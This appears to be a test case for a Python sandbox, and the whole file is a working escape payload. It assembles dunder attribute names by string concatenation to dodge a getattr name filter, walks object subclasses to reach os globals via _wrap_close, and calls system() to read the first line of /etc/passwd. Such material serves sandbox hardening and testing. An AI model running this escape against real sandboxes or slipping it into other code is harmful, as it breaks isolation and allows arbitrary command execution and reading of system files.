# attack: getattr with attribute names built at runtime
# covers: getattr_strings, subclasses
# gate: banned_name getattr
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
base = getattr(getattr((), "__cla" + "ss__"), "__ba" + "se__")
subclasses = getattr(base, "__subcla" + "sses__")()
wrap_close = [cls for cls in subclasses if cls.__name__ == "_wrap_close"][0]
namespace = getattr(getattr(wrap_close, "__in" + "it__"), "__glo" + "bals__")
print("system() returned", namespace["sys" + "tem"]("head -1 /etc/passwd 2>&1"))
